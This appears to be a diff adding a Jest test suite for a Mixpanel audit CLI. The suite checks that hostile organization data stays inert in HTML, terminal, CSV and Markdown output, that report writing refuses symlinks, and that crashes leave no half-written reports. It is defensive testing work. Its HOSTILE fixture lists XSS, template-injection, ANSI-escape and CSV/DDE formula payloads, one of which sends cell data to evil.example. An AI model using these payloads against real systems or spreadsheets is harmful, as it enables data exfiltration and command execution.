@@ -1,0 +1,272 @@
+/**
+ * Output safety: hostile organization data is inert in every output (HTML escaped under a strict
+ * CSP, terminal free of control sequences, CSV free of formulas, Markdown free of raw HTML); report
+ * writing never follows a symlink out of the output folder; and a crash while writing leaves no
+ * half-written report (an in-process render that throws, a folder in the way, and a real process
+ * killed at the moment it writes).
+ */
+import { spawn } from 'node:child_process';
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { parse as parseYaml } from 'yaml';
+import { generateOrg } from '../../src/bench/generate-org.js';
+import { FORMATS } from '../../src/report/formats.js';
+import { serializeState } from '../../src/state/load-state.js';
+import { FIXTURE_NOW, fixtureOrg, startFakeMixpanel, type FakeMixpanel } from '../support/fake-mixpanel/index.js';
+import { runCli, tempDir } from '../support/run-cli.js';
+import { runCaptured } from './support/capture.js';
+
+const NOW = '2026-06-01T00:00:00Z';
+const SMALL = join(process.cwd(), 'test', 'fixtures', 'small-state.yaml');
+
+/** Organization data an attacker controls: member and service-account names, the org's name. */
+export const HOSTILE = {
+  script: '<script>window.__xss=1</script>',
+  img: '<img src=x onerror="window.__xss=2">',
+  template: "{{constructor.constructor('return process')()}}",
+  ansi: '\u001b[31mRED\u001b[0m\u001b]0;pwned\u0007\u001b[2J',
+  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  plus: "+cmd|' /C calc'!A0",
+  at: '@SUM(1+1)*cmd|',
+  minus: '-2+3+cmd|',
+  tab: '\t=1+1',
+};
+
+/** A state whose failing findings name hostile resources (4 owners, 5 service accounts without expiry). */
+export function hostileState(): Record<string, unknown> {
+  const state = parseYaml(readFileSync(SMALL, 'utf8')) as { organization: { name: string }; slices: Record<string, { data: unknown[] }> };
+  state.organization.name = `Evil ${HOSTILE.ansi} ${HOSTILE.script} Co`;
+  const names = Object.values(HOSTILE);
+  state.slices.members!.data = names.slice(0, 5).map((name, i) => ({ email: `owner${i}@small.example`, name, orgRole: 'owner', status: 'active', projectRoles: [], teams: [] }));
+  state.slices.serviceAccounts!.data = names.map((username, i) => ({ id: String(100 + i), username, created: '2026-01-01T00:00:00Z', expires: null, lastUsed: '2026-05-01T00:00:00Z', projects: [] }));
+  return state;
+}
+
+const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+describe('hostile organization data is inert', () => {
+  let out: string;
+  let stdout: string;
+  beforeAll(async () => {
+    const dir = tempDir('mph-hostile-');
+    const file = join(dir, 'state.json');
+    writeFileSync(file, JSON.stringify(hostileState(), null, 2));
+    out = join(dir, 'out');
+    const r = await runCli(['scan', '--state', file, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none']);
+    expect(r.stderr).toBe('');
+    stdout = r.stdout;
+    const offboard = await runCli(['offboard', 'plan', '--state', file, '--email', 'owner0@small.example', '--out', join(dir, 'offboard'), '--now', NOW]);
+    expect(offboard.code).toBe(0);
+    stdout += offboard.stdout;
+  });
+
+  it('HTML: escaped, under a CSP that allows no remote or inline-injected script', () => {
+    const html = readFileSync(join(out, 'report.html'), 'utf8');
+    expect(html).not.toContain('<script>window.__xss');
+    expect(html).not.toContain('<img src=x');
+    expect(html).toContain('&lt;script&gt;window.__xss&#x3D;1&lt;/script&gt;');
+    expect(html).toContain('{{constructor.constructor(&#x27;return process&#x27;)()}}');
+    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
+    expect(csp).toMatch(/default-src 'none'/);
+    expect(csp).toMatch(/script-src 'sha256-[^']+'/);
+    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
+    // Every <script> in the page is the one hashed inline script.
+    expect(html.match(/<script\b/g)?.length).toBe(1);
+  });
+
+  it('terminal: no escape sequence or control character reaches stdout (scan and offboard)', () => {
+    expect(stdout).toContain('Evil');
+    expect(CONTROL.test(stdout.replace(/[\n\t]/g, ''))).toBe(false);
+  });
+
+  it('CSV: no cell a spreadsheet would read as a formula', () => {
+    const rows = parseCsv(readFileSync(join(out, 'report.csv'), 'utf8'), { bom: true }) as string[][];
+    const cells = rows.flat();
+    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
+    for (const c of cells) expect({ c, formula: /^[=+\-@\t\r]/.test(c) }).toEqual({ c, formula: false });
+    expect(cells).toContain(`'${HOSTILE.formula}`);
+  });
+
+  it('Markdown and JUnit: no raw HTML from the data', () => {
+    const md = readFileSync(join(out, 'report.md'), 'utf8');
+    // Inside code spans HTML is shown literally (GFM); outside them it must be escaped.
+    expect(md.replace(/`[^`\n]*`/g, '')).not.toMatch(/(?<!\\)<(script|img)/);
+    expect(CONTROL.test(md.replace(/[\n\t]/g, ''))).toBe(false);
+    const junit = readFileSync(join(out, 'report.junit.xml'), 'utf8');
+    expect(junit).not.toMatch(/<script|<img/);
+  });
+});
+
+describe('hostile data from the live API is inert on the terminal', () => {
+  let fake: FakeMixpanel;
+  beforeAll(async () => {
+    const org = fixtureOrg();
+    org.name = `Acme ${HOSTILE.ansi}`;
+    org.serviceAccounts[0]!.username = `${HOSTILE.ansi}${HOSTILE.script}`;
+    org.projects[0]!.name = `Web ${HOSTILE.ansi}`;
+    fake = await startFakeMixpanel({ org });
+  });
+  afterAll(async () => {
+    await fake?.close();
+  });
+
+  it('the progress display and warnings on stderr, and the summary on stdout, carry no control sequences', async () => {
+    const dir = tempDir('mph-live-hostile-');
+    // A members export naming a project that does not exist, with an escape sequence: it is echoed in a warning.
+    writeFileSync(join(dir, 'members.csv'), `Email,Name,Org Role,Projects\nada@acme.example,Ada,owner,"Nope\u001b[2J\u001b[31m (admin)"\n`);
+    const env = { NO_COLOR: '1', MIXPANEL_SERVICE_ACCOUNT_USERNAME: fake.credentials.username, MIXPANEL_SERVICE_ACCOUNT_SECRET: fake.credentials.secret };
+    const r = await runCaptured(['scan', '--api-base-url', fake.baseUrl, '--members', 'members.csv', '--out', 'out', '--now', new Date(FIXTURE_NOW).toISOString(), '--fail-on', 'none'], { env, cwd: dir, now: FIXTURE_NOW, tty: true });
+    expect(r.code).toBe(0);
+    expect(r.stderr).toMatch(/organization 4242/);
+    expect(r.stderr).toMatch(/warning: .*Nope/);
+    expect({ stderr: r.stderr, control: CONTROL.test(r.stderr.replace(/[\n\t]/g, '')) }).toEqual({ stderr: r.stderr, control: false });
+    expect(CONTROL.test(r.stdout.replace(/[\n\t]/g, ''))).toBe(false);
+  });
+});
+
+describe('writing reports never follows a symlink out of --out', () => {
+  function plant(): { dir: string; out: string; outside: string } {
+    const dir = tempDir('mph-symlink-');
+    const out = join(dir, 'out');
+    const outside = join(dir, 'outside');
+    mkdirSync(out);
+    mkdirSync(outside);
+    return { dir, out, outside };
+  }
+
+  it('symlinks named like the reports are replaced, and their targets are untouched', async () => {
+    const { out, outside } = plant();
+    const names = Object.values(FORMATS).map((f) => f.file);
+    for (const name of names) {
+      writeFileSync(join(outside, name), 'ORIGINAL');
+      symlinkSync(join(outside, name), join(out, name));
+    }
+    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
+    expect(r.code).toBe(0);
+    for (const name of names) {
+      expect(readFileSync(join(outside, name), 'utf8')).toBe('ORIGINAL');
+      expect(lstatSync(join(out, name)).isFile()).toBe(true);
+    }
+    expect(readdirSync(outside).sort()).toEqual([...names].sort());
+  });
+
+  it('an evidence subfolder that is a symlink is refused before anything is written', async () => {
+    const { out, outside } = plant();
+    symlinkSync(outside, join(out, 'evidence'));
+    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--fail-on', 'none']);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/symbolic link/);
+    expect(readdirSync(outside)).toEqual([]);
+    expect(readdirSync(out)).toEqual(['evidence']);
+  });
+
+  it('a live scan replaces a planted state.json symlink instead of writing through it', async () => {
+    const fake = await startFakeMixpanel();
+    try {
+      const { out, outside } = plant();
+      writeFileSync(join(outside, 'state.json'), 'ORIGINAL');
+      symlinkSync(join(outside, 'state.json'), join(out, 'state.json'));
+      const env = { NO_COLOR: '1', MIXPANEL_SERVICE_ACCOUNT_USERNAME: fake.credentials.username, MIXPANEL_SERVICE_ACCOUNT_SECRET: fake.credentials.secret };
+      const r = await runCli(['scan', '--api-base-url', fake.baseUrl, '--out', out, '--now', new Date(FIXTURE_NOW).toISOString(), '--fail-on', 'none'], { env, now: FIXTURE_NOW });
+      expect(r.code).toBe(0);
+      expect(readFileSync(join(outside, 'state.json'), 'utf8')).toBe('ORIGINAL');
+      expect(lstatSync(join(out, 'state.json')).isFile()).toBe(true);
+    } finally {
+      await fake.close();
+    }
+  });
+});
+
+describe('a crash while writing leaves no half-written report', () => {
+  function withOldReports(): string {
+    const out = join(tempDir('mph-crash-'), 'out');
+    mkdirSync(out);
+    for (const f of Object.values(FORMATS)) writeFileSync(join(out, f.file), 'OLD');
+    return out;
+  }
+
+  it('a renderer that throws after the others rendered: nothing is written, the old reports stay', async () => {
+    const out = withOldReports();
+    const md = FORMATS.md!;
+    const original = md.render;
+    md.render = () => {
+      throw new Error('renderer crashed');
+    };
+    try {
+      const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
+      expect(r.code).toBe(4);
+      expect(r.stderr).toMatch(/renderer crashed/);
+      expect(r.stderr).not.toMatch(/\n\s+at /);
+    } finally {
+      md.render = original;
+    }
+    for (const f of Object.values(FORMATS)) expect(readFileSync(join(out, f.file), 'utf8')).toBe('OLD');
+    expect(readdirSync(out).filter((n) => n.startsWith('.'))).toEqual([]);
+  });
+
+  it('--debug adds the stack of an internal error, and only then', async () => {
+    const md = FORMATS.md!;
+    const original = md.render;
+    md.render = () => {
+      throw new Error('renderer crashed');
+    };
+    try {
+      const r = await runCli(['scan', '--state', SMALL, '--out', join(tempDir(), 'out'), '--now', NOW, '--format', 'md', '--debug']);
+      expect(r.code).toBe(4);
+      expect(r.stderr).toMatch(/\n\s+at /);
+    } finally {
+      md.render = original;
+    }
+  });
+
+  it('a folder in the way of one report: nothing is written, the old reports stay', async () => {
+    const out = withOldReports();
+    rmSync(join(out, 'report.md'));
+    mkdirSync(join(out, 'report.md'));
+    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
+    expect(r.code).toBe(4);
+    expect(r.stderr).toMatch(/folder is in the way/);
+    for (const f of Object.values(FORMATS)) if (f.file !== 'report.md') expect(readFileSync(join(out, f.file), 'utf8')).toBe('OLD');
+    expect(readdirSync(out).filter((n) => n.startsWith('.'))).toEqual([]);
+  });
+
+  it('a process killed while it writes leaves each report whole or absent', async () => {
+    const main = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
+    expect(existsSync(main)).toBe(true);
+    const dir = tempDir('mph-kill-');
+    const state = join(dir, 'state.json');
+    writeFileSync(state, serializeState(generateOrg({ members: 4000, seed: 7, violationRate: 0.3, now: NOW })));
+    let killedWhileWriting = 0;
+    for (let attempt = 0; attempt < 4 && killedWhileWriting < 2; attempt++) {
+      const out = join(dir, `out-${attempt}`);
+      const child = spawn(process.execPath, [main, 'scan', '--state', state, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence'], { stdio: 'ignore' });
+      const exited = new Promise<void>((resolve) => child.on('exit', () => resolve()));
+      // Kill it the moment a temporary file appears (the write phase), or give up when it ends.
+      let done = false;
+      void exited.then(() => { done = true; });
+      while (!done) {
+        const staged = existsSync(out) && readdirSync(out).some((n) => n.endsWith('.tmp'));
+        if (staged) {
+          child.kill('SIGKILL');
+          killedWhileWriting++;
+          break;
+        }
+        await new Promise((r) => setTimeout(r, 1));
+      }
+      await exited;
+      if (!existsSync(out)) continue;
+      for (const f of Object.values(FORMATS)) {
+        const path = join(out, f.file);
+        if (!existsSync(path)) continue;
+        const text = readFileSync(path, 'utf8');
+        if (f.file.endsWith('.json') || f.file.endsWith('.sarif')) expect(() => JSON.parse(text)).not.toThrow();
+        if (f.file.endsWith('.html')) expect(text.trimEnd().endsWith('</html>')).toBe(true);
+        if (f.file.endsWith('.xml')) expect(text.trimEnd().endsWith('</testsuites>')).toBe(true);
+      }
+    }
+    rmSync(dir, { recursive: true, force: true });
+    expect(killedWhileWriting).toBeGreaterThan(0);
+  }, 90_000);
+});
